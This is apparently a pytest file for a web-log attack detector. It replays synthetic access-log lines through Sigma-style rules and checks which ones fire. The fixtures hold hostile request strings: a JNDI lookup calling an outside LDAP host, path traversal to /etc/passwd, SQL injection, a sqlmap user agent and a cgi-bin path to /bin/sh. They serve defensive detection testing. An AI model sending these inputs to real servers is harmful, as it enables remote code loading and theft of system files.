"""Attacks in real log lines meet rules of the shapes that SigmaHQ publishes, after parsing and redaction.

With $SIGMAHQ_RULES, the folder `rules/web` of a checkout of SigmaHQ/sigma, its files are loaded and run as they are.
"""

import os
from pathlib import Path

import polars as pl
import pytest

from detector import config
from detector.detect.rules import Rules
from detector.lab.replay import Replay
from detector.telemetry import Telemetry

SAMPLE = config.shipped("sample_logs", "portal_week", "access.log.gz")
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
OURS = """
title: Lookup
logsource: {category: webserver}
detection:
  words: ['${jndi:', '%24%7bjndi:']
  scanner: ['our-scanner.example']
  condition: words and not scanner
---
title: Traversal
logsource: {category: webserver}
detection: {s: {cs-uri-query|contains: ['../../../etc/', '%2e%2e%2fetc%2f']}, condition: s}
---
title: Tool
logsource: {category: proxy}
detection: {s: {c-useragent|contains: ['sqlmap', ' brute ']}, condition: s}
---
title: Injection
logsource: {category: webserver}
detection:
  method: {cs-method: GET}
  words: ['union%20select', "'1'='1"]
  filter: {sc-status: 404}
  condition: method and words and not 1 of filter*
---
title: Tunnel
logsource: {category: webserver}
detection:
  s: {cs-uri-query|contains: ['cmd=connect']}
  none: {cs-referer: null, cs-user-agent: null, cs-method: POST}
  condition: s and none
---
title: Empty agent
logsource: {category: proxy}
detection: {s: {c-useragent: ''}, condition: s}
---
title: Written in code
logsource: {category: webserver}
detection: {s: {cs-uri-stem|startswith: /cgi-bin/.%2e/, sc-status: [200, 301]}, condition: s}
"""
REQUESTS = [
    ("GET /?q=${jndi:ldap://203.0.113.9/a}", 200, BROWSER, {"Lookup"}),
    ("GET /", 200, "${jndi:ldap://203.0.113.9/a}", {"Lookup"}),
    ("GET /?q=${jndi:ldap://203.0.113.9/a}", 200, "our-scanner.example/2", set()),
    ("GET /?f=../../../etc/passwd", 404, BROWSER, {"Traversal"}),
    ("GET /a/../../../etc/passwd", 404, BROWSER, {"Traversal"}),
    ("GET /?f=%2e%2e%2Fetc%2Fpasswd", 404, BROWSER, {"Traversal"}),
    ("GET /login?id=1", 200, "sqlmap/1.8 (https://sqlmap.org)", {"Tool"}),
    ("GET /?id=1%20UNION%20SELECT%20name", 200, BROWSER, {"Injection"}),
    ("GET /?id=1%20UNION%20SELECT%20name", 404, BROWSER, set()),
    ("POST /t.jsp?cmd=connect&target=x", 200, "-", {"Tunnel", "Empty agent"}),
    ("GET /cgi-bin/.%2e/.%2e/bin/sh", 200, BROWSER, {"Written in code"}),
    ("GET /dossier/123", 200, BROWSER, set()),
]


def events(paths: list[Path]) -> pl.DataFrame:
    return pl.concat(list(Replay(paths, config.Config()).events(Telemetry())))


@pytest.fixture(scope="module")
def sample() -> pl.DataFrame:
    return events([SAMPLE])


@pytest.fixture
def asked(tmp_path: Path) -> pl.DataFrame:
    lines = [
        f'192.0.2.{i} - - [02/Mar/2026:10:00:{i:02d} +0100] "{request} HTTP/1.1" {status} 12 "-" "{agent}"\n'
        for i, (request, status, agent, _) in enumerate(REQUESTS)
    ]
    (tmp_path / "access.log").write_text("".join(lines), "utf-8")
    return events([tmp_path / "access.log"])


def test_attacks_are_found_after_parsing_and_redaction(pack, asked):
    found = pack(*OURS.split("---")).observe(asked)
    names = {f"192.0.2.{i}": set() for i in range(len(REQUESTS))}
    for address, name in found.select("source.ip", "rule.name").rows():
        names[address].add(name)
    assert list(names.values()) == [expected for *_, expected in REQUESTS]


def test_a_week_of_a_portal_meets_none_of_them(pack, sample):
    assert pack(*OURS.split("---")).observe(sample).height == 0


FOLDER = os.environ.get("SIGMAHQ_RULES", "")
STOCK = [*Path(FOLDER).rglob("web*.yml"), *Path(FOLDER).rglob("proxy_ua_*.yml")] if FOLDER else []


@pytest.mark.skipif(not STOCK, reason="$SIGMAHQ_RULES names no checkout of SigmaHQ's rules/web")
def test_stock_files_load_find_attacks_and_leave_the_portal_alone(asked, sample):
    section = config.Rules(shipped=False, folders=tuple(STOCK))
    rules = Rules.load(config.Config(rules=section))
    assert len(rules.catalogue) >= len(STOCK)
    assert rules.observe(sample).height == 0
    addresses = Rules.load(config.Config(rules=section)).observe(asked)["source.ip"].unique()
    assert {f"192.0.2.{i}" for i in (0, 1, 3, 4, 6, 7, 9)} <= set(addresses)
    assert f"192.0.2.{len(REQUESTS) - 1}" not in set(addresses)
